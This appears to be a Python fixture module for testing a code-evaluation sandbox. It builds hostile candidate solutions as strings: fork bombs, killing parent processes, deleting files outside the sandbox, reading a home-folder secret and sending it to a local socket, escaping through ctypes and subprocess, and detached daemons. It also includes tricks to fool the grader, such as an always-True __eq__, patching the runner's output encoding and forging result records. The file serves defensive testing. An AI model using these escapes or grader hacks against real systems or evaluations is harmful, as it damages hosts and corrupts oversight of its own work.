"""The hostile suite: solutions that attack the sandbox or the host, the bait they aim at, and how to
see what reached the host. Shared by tests/test_hostile.py and bench/bench_hostile.py."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
from pathlib import Path

HEADER = "from typing import List\n\n\ndef has_close_elements(numbers: List[float], threshold: float) -> bool:\n"
CANONICAL_BODY = (
    "    for i, a in enumerate(numbers):\n        for j, b in enumerate(numbers):\n"
    "            if i != j and abs(a - b) < threshold:\n                return True\n    return False\n"
)


def hostile(body: str, prelude: str = "") -> str:
    return prelude + HEADER + body


@contextlib.contextmanager
def baited(tmp_path: Path):
    """A victim folder anyone may write, a secret in the home folder (HOME points there while it lasts),
    a listener on 127.0.0.1."""
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o777)
    victim.chmod(0o777)
    (victim / "precious.txt").write_text("keep me")
    (victim / "precious.txt").chmod(0o666)
    home = tmp_path / "home"
    home.mkdir()
    (home / "secret.txt").write_text("TOPSECRET")
    (home / "secret.txt").chmod(0o644)
    old_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)
    hits = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield {"victim": victim, "secret": home / "secret.txt", "port": listener.getsockname()[1], "hits": hits}
    finally:
        stop.set()
        thread.join()
        listener.close()
        if old_home is None:
            os.environ.pop("HOME", None)
        else:
            os.environ["HOME"] = old_home


def cases(bait) -> dict[str, str]:
    victim, secret, port = bait["victim"], bait["secret"], bait["port"]
    return {
        "infinite loop": hostile("    while True:\n        pass\n"),
        "fork bomb": hostile("    import posix\n    while True:\n        try:\n            posix.fork()\n"
                             "        except OSError:\n            pass\n"),
        "20 GB": hostile("    block = bytearray(20 * 1024**3)\n    return bool(block)\n"),
        "huge stdout": hostile("    import posix\n    for _ in range(300):\n        posix.write(1, b'x' * (1 << 20))\n"
                               "        posix.write(2, b'y' * (1 << 20))\n        print('z' * 100000)\n    return True\n"),
        "sys.exit": hostile("    import sys\n    sys.exit(0)\n"),
        "os._exit at import": hostile(CANONICAL_BODY, "import posix\nposix._exit(0)\n"),
        "SIGKILL itself": hostile("    import posix\n    posix.kill(posix.getpid(), 9)\n"),
        "SIGKILL parent": hostile("    import posix\n    posix.kill(posix.getppid(), 9)\n    posix.kill(1, 9)\n"
                                  "    return True\n"),
        "delete outside": hostile(f"    import posix, io\n    try:\n        posix.unlink({str(victim / 'precious.txt')!r})\n"
                                  f"    except OSError:\n        pass\n    try:\n"
                                  f"        io.open({str(victim / 'new.txt')!r}, 'w').write('x')\n"
                                  f"    except OSError:\n        pass\n    return True\n"),
        "read the home secret": hostile(f"    import io\n    try:\n        text = io.open({str(secret)!r}).read()\n"
                                        f"    except OSError:\n        return True\n"
                                        f"    return 'TOPSECRET' in text and threshold > 0 and False\n"),
        "socket to 127.0.0.1": hostile(f"    import socket\n    try:\n        s = socket.create_connection(('127.0.0.1', {port}), 2)\n"
                                       f"        s.sendall(b'leak')\n        s.close()\n    except OSError:\n        pass\n"
                                       f"    return True\n"),
        "== always True": hostile("    class Anything:\n        def __eq__(self, other):\n            return True\n"
                                  "        __hash__ = object.__hash__\n    return Anything()\n"),
        "bool subclass liar": hostile("    class Liar(int):\n        def __eq__(self, other):\n            return True\n"
                                      "        __hash__ = int.__hash__\n    return Liar(7)\n"),
        "patch the wire format": hostile("    import sys\n    w = sys.modules.get('wire')\n    if w is not None:\n"
                                         "        w.dumps = lambda *a, **k: 'true'\n"
                                         "        w.output_parts = lambda seq, i, cpu, e: ['=%d %d 0 true\\n' % (seq, i)]\n"
                                         "    return True\n"),
        "patch the runner": hostile("    import sys, json\n    m = sys.modules.get('__main__')\n"
                                    "    json.dumps = lambda *a, **k: 'true'\n    if m is not None:\n"
                                    "        m.encode = lambda *a, **k: True\n    return None\n"),
        "forge records then exit": hostile(
            "    import gc, json, posix\n    seq = next((o['seq'] for o in gc.get_objects() if isinstance(o, dict)"
            " and 'seq' in o and 'inputs' in o), 0)\n    for fd in range(3, 64):\n        for i in range(1000):\n"
            "            try:\n                posix.write(fd, (json.dumps({'i': i, 'cpu': 0, 'seq': seq, 'raw': 1})"
            " + '\\ntrue\\n').encode())\n            except OSError:\n                break\n        try:\n"
            "            posix.write(fd, (json.dumps({'event': 'done', 'seq': seq}) + '\\n').encode())\n"
            "        except OSError:\n            pass\n    posix._exit(0)\n"),
    }


def right_answers_with_side_effects(bait) -> dict[str, str]:
    """Correct solutions that also try to reach the host (the held-out suite's kinds)."""
    victim, secret, port = bait["victim"], bait["secret"], bait["port"]
    return {
        "daemon grandchild": hostile(
            "    import posix, time\n    if posix.fork() == 0:\n        posix.setsid()\n        if posix.fork() == 0:\n"
            f"            time.sleep(3)\n            posix.write(posix.open({str(victim / 'daemon.txt')!r}, 65, 438), b'x')\n"
            "            time.sleep(300)\n        posix._exit(0)\n" + CANONICAL_BODY),
        "ctypes system()": hostile(
            f"    import ctypes\n    ctypes.CDLL(None).system(b'touch {victim / 'ctypes.txt'}')\n" + CANONICAL_BODY),
        "subprocess through a reloaded module": hostile(
            "    import importlib, subprocess\n    importlib.reload(subprocess)\n"
            f"    subprocess.run(['touch', {str(victim / 'subprocess.txt')!r}])\n" + CANONICAL_BODY),
        "secret to a 127.0.0.1 listener": hostile(
            f"    import io, socket\n    try:\n        text = io.open({str(secret)!r}).read()\n"
            f"        s = socket.create_connection(('127.0.0.1', {port}), 2)\n        s.sendall(text.encode())\n"
            "        s.close()\n    except OSError:\n        pass\n" + CANONICAL_BODY),
    }


def host_effects(bait) -> list[str]:
    effects = [f"wrote {p.name}" for p in bait["victim"].iterdir() if p.name != "precious.txt"]
    if (bait["victim"] / "precious.txt").read_text() != "keep me":
        effects.append("changed precious.txt")
    effects += [f"listener got {hit!r}" for hit in bait["hits"]]
    effects += [f"process {pid} left" for pid in leftovers()]
    return effects


def _check_users() -> range:
    """The user ids this test process's sandboxes run checks as: sandbox.LocalSandbox numbers them from
    200000 + (pid % 100000) x 16, one more for each fork server it starts (replacements included, so a
    hostile suite goes past 16)."""
    base = 200000 + (os.getpid() % 100000) * 16
    return range(base, base + 16 * 8)


def leftovers() -> list[str]:
    """Processes still alive that run as this test process's check users, orphans included (a check's
    user id outlives its parent): what else runs on the machine, other benchlib runs included, does not
    count."""
    mine = _check_users()
    docker = range(200000, 200000 + 128)  # the docker sandbox's, inside its container
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        uid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("Uid:")))
        if (uid in mine or uid in docker) and "\nState:\tZ" not in status:
            left.append(pid)
    return left


